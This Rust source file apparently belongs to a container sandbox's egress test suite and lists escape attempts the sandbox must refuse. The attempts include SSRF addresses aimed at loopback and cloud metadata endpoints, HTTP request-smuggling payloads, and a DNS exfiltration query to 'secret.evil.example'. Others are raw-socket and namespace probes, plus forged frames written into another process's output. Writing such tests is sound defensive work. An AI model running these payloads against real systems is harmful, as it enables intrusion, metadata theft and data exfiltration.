//! A container that wants out: to this machine, to its neighbours, to the cloud it runs in, to
//! anybody who asks for names.
//!
//! A site listens on every address of this machine; no request may reach it. Another one is
//! allowed, and shows that there is a way out at all.

use crate::attempt::{Attempt, End};
use crate::class::Class;

/// Stands for the port of the site that nobody allowed.
pub const FORBIDDEN: &str = "@FORBIDDEN@";
/// Stands for the address of the site that is allowed.
pub const ALLOWED: &str = "@ALLOWED@";

/// The way out, as a program sees it that does as it likes.
const PROXY: &str = "curl -sS -m 5 --noproxy '' -x http://127.0.0.1:3128";

pub fn all() -> Vec<Attempt> {
    [addresses(), requests(), others()].concat()
}

fn out(name: &'static str, commands: &str) -> Attempt {
    Attempt::new(Class::Egress, name, End::Delivered)
        .runs(commands)
        // There is a way out, so what was refused was refused by rule.
        .succeeds("curl -sS -m 20 http://@ALLOWED@/way-out | grep -q hello")
        .works()
}

/// Names and addresses that lead to where nobody allowed, for a program that takes no notice of
/// `NO_PROXY`.
fn addresses() -> Vec<Attempt> {
    let through_proxy = |name, addresses: &[&str]| {
        let asks: Vec<String> = addresses
            .iter()
            .map(|address| format!("{PROXY} '{address}'; {PROXY} --proxytunnel '{address}'"))
            .collect();
        out(name, &asks.join("\n"))
    };
    vec![
        through_proxy(
            "own-machine",
            &[
                "http://127.0.0.1:@FORBIDDEN@/",
                "http://127.0.0.2:@FORBIDDEN@/",
                "http://localhost:@FORBIDDEN@/",
                "http://LOCALHOST.:@FORBIDDEN@/",
                "http://0.0.0.0:@FORBIDDEN@/",
            ],
        )
        .short(),
        through_proxy(
            "own-machine-spelled",
            &[
                "http://127.1:@FORBIDDEN@/",
                "http://2130706433:@FORBIDDEN@/",
                "http://0x7f000001:@FORBIDDEN@/",
                "http://0177.0.0.1:@FORBIDDEN@/",
                "http://127.0.0.01:@FORBIDDEN@/",
                "http://%6c%6f%63alhost:@FORBIDDEN@/",
            ],
        ),
        through_proxy(
            "sixth-version",
            &[
                "http://[::1]:@FORBIDDEN@/",
                "http://[::]:@FORBIDDEN@/",
                "http://[::ffff:127.0.0.1]:@FORBIDDEN@/",
                "http://[::ffff:7f00:1]:@FORBIDDEN@/",
                "http://[64:ff9b::7f00:1]:@FORBIDDEN@/",
                "http://[fe80::1]:@FORBIDDEN@/",
            ],
        ),
        through_proxy(
            "metadata",
            &[
                "http://169.254.169.254/latest/meta-data/",
                "http://[fd00:ec2::254]/latest/",
                "http://[::ffff:169.254.169.254]/",
                "http://2852039166/",
                "http://metadata.google.internal/computeMetadata/v1/",
                "http://100.100.100.200/",
            ],
        )
        .short(),
        through_proxy(
            "disguised-host",
            &[
                "http://@ALLOWED@@127.0.0.1:@FORBIDDEN@/",
                "http://127.0.0.1:@FORBIDDEN@#@@ALLOWED@/",
                "http://127.0.0.1:@FORBIDDEN@\\@@ALLOWED@/",
                "http://@ALLOWED@.evil.example:@FORBIDDEN@/",
            ],
        ),
    ]
}

/// Requests to the proxy that say two things at once.
fn requests() -> Vec<Attempt> {
    let raw = |name, request: &str| {
        out(
            name,
            &format!("exec 3<>/dev/tcp/127.0.0.1/3128 && printf '{request}' >&3 && timeout 3 cat <&3"),
        )
    };
    vec![
        raw(
            "host-header",
            "GET http://@ALLOWED@/one HTTP/1.1\\r\\nHost: 127.0.0.1:@FORBIDDEN@\\r\\n\\r\\nGET http://127.0.0.1:@FORBIDDEN@/two HTTP/1.1\\r\\nHost: @ALLOWED@\\r\\nConnection: close\\r\\n\\r\\n",
        )
        .short(),
        raw(
            "smuggled",
            "POST http://@ALLOWED@/one HTTP/1.1\\r\\nHost: @ALLOWED@\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:@FORBIDDEN@/two HTTP/1.1\\r\\nHost: 127.0.0.1:@FORBIDDEN@\\r\\n\\r\\n",
        ),
        raw(
            "broken-connect",
            "CONNECT @ALLOWED@\\r\\nX: 127.0.0.1:@FORBIDDEN@ HTTP/1.1\\r\\n\\r\\nCONNECT 127.0.0.1:@FORBIDDEN@ HTTP/1.1\\r\\nHost: @ALLOWED@\\r\\n\\r\\n",
        ),
        raw(
            "no-proxy-request",
            "GET /own HTTP/1.1\\r\\nHost: 127.0.0.1:@FORBIDDEN@\\r\\n\\r\\nOPTIONS * HTTP/1.1\\r\\nHost: 127.0.0.1:@FORBIDDEN@\\r\\n\\r\\n",
        ),
        raw(
            "tunnel-in-tunnel",
            "CONNECT @ALLOWED@ HTTP/1.1\\r\\nHost: @ALLOWED@\\r\\n\\r\\nCONNECT 127.0.0.1:@FORBIDDEN@ HTTP/1.1\\r\\n\\r\\nGET http://127.0.0.1:@FORBIDDEN@/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        ),
    ]
}

/// Ways around the proxy, and into its stream.
fn others() -> Vec<Attempt> {
    vec![
        out(
            "direct",
            "for a in 127.0.0.1 127.0.0.2 172.17.0.1 10.0.0.1 $(hostname -i); do timeout 2 bash -c \"printf 'GET /direct HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' > /dev/tcp/$a/@FORBIDDEN@\"; done; ip addr; ip route; cat /proc/net/route",
        )
        .short(),
        out(
            "names",
            "getent hosts evil.example; python3 - <<'PROGRAM'\nimport socket\nfor server in ('127.0.0.11', '127.0.0.53', '172.17.0.1', '8.8.8.8', '1.1.1.1'):\n    asks = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    asks.settimeout(1)\n    try:\n        asks.sendto(b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x04evil\\x07example\\0\\0\\x01\\0\\x01', (server, 53))\n        print(server, asks.recv(512))\n    except OSError as error:\n        print(server, error)\nPROGRAM",
        )
        .short(),
        out(
            "raw-sockets",
            "python3 -c \"import socket as s\nfor a in ((s.AF_PACKET, s.SOCK_RAW, 3), (s.AF_INET, s.SOCK_RAW, 1), (s.AF_NETLINK, s.SOCK_RAW, 0), (40, s.SOCK_STREAM, 0)):\n    try: print(a, s.socket(*a))\n    except OSError as e: print(a, e)\"; ip link add x type dummy; unshare -Urn ip addr; nsenter -t 1 -n ip addr",
        ),
        // The streams that the worker reads belong to the container's user: it can write what it
        // likes into them.
        out(
            "forged-frames",
            "for p in $(pgrep -f '[e]xecutor (tunnel|multiplex)'); do head -c 200000 /dev/urandom > /proc/$p/fd/1; printf '\\0\\0\\0\\1\\377\\377\\377\\377\\377\\377\\377\\377' > /proc/$p/fd/1; done; pkill -KILL -f '[e]xecutor (tunnel|multiplex)'; until curl -sS -m 5 http://@ALLOWED@/back; do sleep 0.2; done",
        ),
        out(
            "slow-request",
            "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http' >&3; sleep 1; printf '://@ALLOWED@/' >&3; head -c 300000 /dev/zero | tr '\\0' a >&3; timeout 2 cat <&3",
        ),
    ]
}
